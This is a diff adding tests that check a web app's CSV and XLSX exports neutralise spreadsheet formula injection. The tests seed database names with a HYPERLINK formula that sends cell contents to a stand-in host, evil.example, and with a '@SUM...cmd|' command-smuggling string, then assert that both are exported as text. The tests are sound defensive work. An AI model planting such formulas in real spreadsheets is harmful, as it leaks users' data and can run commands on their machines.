@@ -7,6 +7,7 @@ import path from 'node:path'
 import { after, before, describe, test } from 'node:test'
 import { parse } from 'csv-parse/sync'
 import { sql } from 'drizzle-orm'
+import ExcelJS from 'exceljs'
 import iconv from 'iconv-lite'
 import { LOGIN_FAILURE_LIMIT } from './core/auth/service.ts'
 import { acquireLock, rows } from './core/db/index.ts'
@@ -185,5 +186,59 @@ describe('#11.4 request body limits', () => {
     const res = await cl.request('POST', '/groups/import', { body: fd })
     assert.notEqual(res.status, 413)
     assert.notEqual(res.status, 500)
+  })
+})
+
+describe('#11.5 formula injection in CSV exports', () => {
+  const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+  before(async () => {
+    await t.database.db.execute(
+      sql`UPDATE groups SET name = ${PAYLOAD} WHERE id = (SELECT id FROM groups WHERE status = 'published' ORDER BY created_at LIMIT 1)`,
+    )
+  })
+  const cellsOf = (text: string) => (parse(text.replace(/^\uFEFF/, '')) as string[][]).flat()
+
+  test('/opendata/groups.csv writes the name as text, not a formula', async () => {
+    const res = await t.app.request('/opendata/groups.csv')
+    assert.equal(res.status, 200)
+    const cells = cellsOf(await res.text())
+    assert.ok(cells.includes(`'${PAYLOAD}`), 'neutralised name present')
+    assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no cell starts with = + - @ tab CR')
+  })
+
+  test('/groups/export.csv in UTF-8 and CP932', async () => {
+    const cl = await t.as('coordinator@demo.example')
+    for (const enc of ['utf-8', 'cp932']) {
+      const res = await cl.get(`/groups/export.csv${enc === 'cp932' ? '?encoding=cp932' : ''}`)
+      assert.equal(res.status, 200)
+      const buf = Buffer.from(await res.arrayBuffer())
+      const text = enc === 'cp932' ? iconv.decode(buf, 'cp932') : buf.toString('utf8')
+      const cells = cellsOf(text)
+      assert.ok(cells.includes(`'${PAYLOAD}`), enc)
+      assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), enc)
+    }
+  })
+
+  test('/groups/export.xlsx holds the name as a text cell, not a formula', async () => {
+    const cl = await t.as('coordinator@demo.example')
+    const res = await cl.get('/groups/export.xlsx')
+    assert.equal(res.status, 200)
+    const wb = new ExcelJS.Workbook()
+    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as any)
+    const found: ExcelJS.Cell[] = []
+    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void (cell.text.includes('HYPERLINK') && found.push(cell)))))
+    assert.ok(found.length > 0)
+    for (const cell of found) assert.equal(cell.type, ExcelJS.ValueType.String)
+  })
+
+  test('/admin/departments/export', async () => {
+    await t.database.db.execute(
+      sql`UPDATE departments SET name = ${'@SUM(1+1)*cmd|'} WHERE id = (SELECT id FROM departments ORDER BY created_at LIMIT 1)`,
+    )
+    const cl = await t.as('admin@demo.example')
+    const res = await cl.get('/admin/departments/export')
+    assert.equal(res.status, 200)
+    const cells = cellsOf(await res.text())
+    assert.ok(cells.includes("'@SUM(1+1)*cmd|"))
   })
 })
